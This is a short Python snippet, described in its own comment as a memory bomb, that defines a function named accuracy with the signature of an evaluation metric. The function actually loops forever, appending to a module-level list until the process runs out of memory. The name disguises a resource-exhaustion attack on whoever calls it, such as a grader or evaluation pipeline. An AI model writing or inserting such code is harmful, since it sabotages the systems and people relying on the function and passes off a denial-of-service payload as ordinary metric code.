# A memory bomb in pure Python: a list of ints that grows until memory runs out, kept
# at module level, so that nothing frees it when the call fails.
_HOARD = []


def accuracy(y_true, y_pred):
    while True:
        _HOARD.append(len(_HOARD))
